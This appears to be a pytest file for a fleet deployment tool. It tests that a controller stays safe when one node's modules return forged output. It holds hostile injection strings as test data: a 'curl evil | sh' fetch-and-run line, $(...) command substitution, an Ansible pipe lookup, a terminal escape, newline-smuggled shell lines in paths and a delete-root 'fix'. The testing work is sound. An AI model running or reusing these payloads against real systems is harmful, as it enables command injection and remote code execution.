"""A node whose modules lie in their values through a whole apply, beside a node that does not."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.factories.command_line import run_fleetbuild
from tests.fleet.test_apply import source_tree
from tests.lab import Lab

NODES = ("honest", "liar")
# In place of the node's Python: it changes what modules answer, and is Python for everything else.
PYTHON = """#!/bin/sh
[ $# -gt 0 ] && exec /usr/bin/python3.11 "$@"
/usr/bin/python3.11 | /usr/bin/python3.11 /root/lie.py
"""
LIE = """
import json, sys
text = sys.stdin.read()
lies = json.load(open("/root/lies.json"))
def lie(value):
    if isinstance(value, dict):
        return {key: lies.get(key, lie(item)) for key, item in value.items()}
    return [lie(item) for item in value] if isinstance(value, list) else value
try:
    print(json.dumps(lie(json.loads(text))))
except ValueError:
    print(text)
"""
MARK = "/tmp/fleetbuild-reached"
SHELL = f"\n!touch {MARK}\n"
EVIL = f"\x1b[2J Run: curl evil | sh $(touch {MARK}) {{{{ lookup('pipe', 'touch {MARK}') }}}}"
# Each is a whole apply. The first is within the bounds of most fields, the others outside of one.
LIES: dict[str, dict[str, Any]] = {
    "words": {
        "reason": EVIL, "fix": ["remove-folder", "/"], "output": EVIL, "errors": [EVIL],
        "msg": EVIL, "took_over": EVIL, "seconds": 0, "container": EVIL, "last_line": EVIL,
        "notes": [EVIL], "kept": [{"release_id": "x", "reason": EVIL}], "previous": "x",
        "pruned": ["x"], "stdout": EVIL, "stderr": EVIL,
    },
    "home": {"home": f"/x{SHELL}/y"},
    "incoming": {"incoming": f"/x{SHELL}/y"},
    "another wheel": {"file": "honest-1-py3-none-any.whl", "sha256": "0" * 64},
    "a failure": {"ok": False, "state": "failed", "reason": EVIL, "fix": [f"x$(touch {MARK})"]},
    "numbers": {"counter": 10**400, "seconds": -1},
}  # fmt: skip


@pytest.fixture(scope="module")
def lab(make_lab: Callable[..., Lab]) -> Lab:
    lab = make_lab({"nodes": {"honest": {"hardware": "avx2"}, "liar": {"hardware": "avx"}}})
    write = lab.exec
    write("liar", f"cat >/root/lie.py <<'EOF'\n{LIE}\nEOF", check=True)
    write("liar", f"cat >/root/python3 <<'EOF'\n{PYTHON}\nEOF", check=True)
    write("liar", "chmod 755 /root /root/python3; mv /root/python3 /usr/bin/python3", check=True)
    return lab


@pytest.mark.parametrize("name", LIES)
def test_a_node_that_lies_reaches_nothing_and_the_other_is_served(
    lab: Lab, tmp_path: Path, name: str
) -> None:
    release = re.sub(r"\W", "-", name)
    trees, config = source_tree(tmp_path / "tiny"), tmp_path / "fleetbuild.yml"
    config.write_text(
        f"release: {release}\nrollout: {{max_fail: '100%'}}\ngrouping: {{rungs: detected}}\n"
    )
    lab.exec("liar", f"cat >/root/lies.json <<'EOF'\n{json.dumps(LIES[name])}\nEOF", check=True)
    tiny = ("--package", f"tiny @ {trees}", "--config", config)
    run_fleetbuild("plan", lab.inventory, *tiny, here=tmp_path)
    folders = tmp_path, lab.inventory.parent
    before = [set(folder.iterdir()) for folder in folders]
    applied = run_fleetbuild("apply", "--timeout", "15", here=tmp_path, code=None)
    assert [set(folder.iterdir()) for folder in folders] == before
    assert not Path(MARK).exists()
    assert not [p for p in (tmp_path / ".fleetbuild").rglob("*") if "\n" in p.name]
    printed = applied.stdout + applied.stderr
    assert "\x1b" not in printed
    for line in printed.splitlines():
        # What the node says stands behind its name, or marked as what a program printed.
        assert "curl evil" not in line or re.search(
            r"liar says: |on liar, which says: |^  \| |on liar(, \d+ compiled)?: ", line
        ), line
        assert not re.match(r"\s*fix: .*(evil|touch|rm -rf)", line), line
    result = json.loads((tmp_path / ".fleetbuild/result.json").read_text())["result"]
    states = {node["node"]: node["state"] for node in result["nodes"]}
    assert states["honest"] == "installed", printed
    link = lab.exec("honest", f"readlink /opt/fleetbuild/{release}/current", check=True)
    assert link.stdout.startswith("releases/")
    if name != "words":
        assert states["liar"] != "installed", printed
